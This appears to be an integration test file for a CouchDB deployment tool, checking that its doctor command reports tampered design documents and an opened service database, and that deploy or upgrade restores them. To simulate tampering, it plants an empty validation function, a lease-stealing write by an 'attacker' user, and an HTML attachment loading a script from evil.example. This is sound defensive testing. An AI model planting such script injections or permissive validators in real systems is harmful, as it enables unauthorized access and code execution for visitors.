/**
 * A design document changed on the server that keeps its version stamp (the stamp is stored in
 * the document it vouches for) is reported by `doctor` and replaced by `deploy`: a permissive
 * validate_doc_update in transfers, and a page attachment of the monitor design document. Also:
 * doctor reports a service database that plain users could reach (their checkpoints are `_local`
 * documents, guarded by `_security` alone).
 */
import { authParts } from '../../../agents/platform/couch';
import { deploy, securityObject } from '../../../scripts/deploy';
import { doctor } from '../../../scripts/ops/doctor';
import { http } from '../../../scripts/ops/http';
import { upgrade } from '../../../scripts/ops/upgrade';
import { createTestEnv, type TestEnv } from '../../support/env';
import { configure, makeStorage, type Storage } from '../../support/agents';

let env: TestEnv;
let storage: Storage;

beforeAll(async () => {
  env = await createTestEnv();
  storage = makeStorage(['T2_A', 'T2_B']);
  await configure(env, storage);
});
afterAll(async () => {
  await env?.cleanup();
  storage?.cleanup();
});

/** Doctor's problems with databases and design documents (indexes are built lazily on CouchDB). */
async function problems(): Promise<string[]> {
  return (await doctor({ url: env.adminUrl, dbs: env.dbs, agents: [] }))
    .filter((f) => f.level === 'problem' && (f.check === 'design' || f.check === 'database'))
    .map((f) => `${f.subject}: ${f.message}`);
}

/** A user's write the deployed validation refuses (users write transfers and requests only). */
function userLockWrite(id: string) {
  return http(env.urlAs('owner'), 'PUT', `/${env.dbs.transfers}/${id}`, {
    body: { type: 'lock', lease: { owner: 'attacker', expires_at: '2999-01-01T00:00:00Z' } },
  });
}

describe('design documents changed on the server with their stamp kept', () => {
  it('are reported by doctor and replaced by deploy', async () => {
    expect(await problems()).toEqual([]);
    const tdb = env.admin.use<Record<string, unknown>>(env.dbs.transfers);
    const validate = await tdb.get('_design/validate');
    await tdb.insert({ ...validate, validate_doc_update: 'function (newDoc, oldDoc, userCtx, secObj) {}' } as never);
    // The page: one attachment replaced in place, the stamp untouched.
    const monitor = await tdb.get('_design/monitor');
    const { base, headers } = authParts(env.adminUrl);
    const att = await fetch(`${base}/${env.dbs.transfers}/_design/monitor/index.html?rev=${monitor._rev}`, {
      method: 'PUT',
      headers: { ...headers, 'Content-Type': 'text/html' },
      body: '<html><script src="https://evil.example/x.js"></script></html>',
    });
    expect(att.status).toBe(201);
    for (const id of ['_design/validate', '_design/monitor'])
      expect((await tdb.get(id)).couchstage).toEqual(
        id === '_design/validate' ? validate.couchstage : monitor.couchstage,
      );
    // What is at stake: the permissive function lets a user take the scheduler's lease.
    expect((await userLockWrite('lock:tampered')).status).toBe(201);

    const found = await problems();
    expect(found.map((p) => p.split(':')[0]).sort()).toEqual([
      `${env.dbs.transfers}/_design/monitor`,
      `${env.dbs.transfers}/_design/validate`,
    ]);
    for (const p of found) expect(p).toMatch(/content differs .* stamp .*couchstage deploy/);

    const report = await deploy({ url: env.adminUrl, dbs: env.dbs, version: 'test' });
    expect(
      report.designs
        .filter((d) => d.action !== 'unchanged')
        .map((d) => `${d.db}/${d.id} ${d.action}`)
        .sort(),
    ).toEqual([`${env.dbs.transfers}/_design/monitor updated`, `${env.dbs.transfers}/_design/validate updated`]);
    expect(await problems()).toEqual([]);
    expect((await userLockWrite('lock:again')).status).toBe(403);
    const page = await fetch(`${base}/${env.dbs.transfers}/_design/monitor/index.html`, { headers });
    expect(await page.text()).not.toContain('evil.example');
    // Nothing left to do: a second deploy changes nothing.
    expect(
      (await deploy({ url: env.adminUrl, dbs: env.dbs, version: 'test' })).designs.every(
        (d) => d.action === 'unchanged',
      ),
    ).toBe(true);
  });
});

describe('upgrade', () => {
  it('replaces a design document changed on the server with its stamp kept, instead of calling it unchanged', async () => {
    const cdb = env.admin.use<Record<string, unknown>>(env.dbs.config);
    const validate = await cdb.get('_design/validate');
    await cdb.insert({ ...validate, validate_doc_update: 'function (newDoc, oldDoc, userCtx, secObj) {}' } as never);
    const steps = await upgrade({ url: env.adminUrl, dbs: env.dbs, version: 'test' });
    expect(steps.filter((s) => s.action !== 'unchanged').map((s) => `${s.db}/${s.id} ${s.action}`)).toEqual([
      `${env.dbs.config}/_design/validate replaced`,
    ]);
    expect((await cdb.get('_design/validate')).validate_doc_update).toBe(validate.validate_doc_update);
    expect(await problems()).toEqual([]);
  });
});

describe('the service database', () => {
  it('is reported by doctor when plain users could reach it, and deploy closes it again', async () => {
    const sec = securityObject('service');
    const open = { ...sec, members: { names: [], roles: [...sec.members.roles, 'couchstage-user'] } };
    expect((await http(env.adminUrl, 'PUT', `/${env.dbs.service}/_security`, { body: open })).status).toBe(200);
    expect(await problems()).toEqual([
      `${env.dbs.service}: users can write the agents' checkpoints here (its members are not the agent role alone): run "couchstage deploy"`,
    ]);
    await http(env.adminUrl, 'PUT', `/${env.dbs.service}/_security`, {
      body: { admins: sec.admins, members: { names: [], roles: [] } },
    });
    expect((await problems()).map((p) => p.split(':')[0])).toEqual([env.dbs.service]);
    await deploy({ url: env.adminUrl, dbs: env.dbs, version: 'test' });
    expect(await problems()).toEqual([]);
  });
});
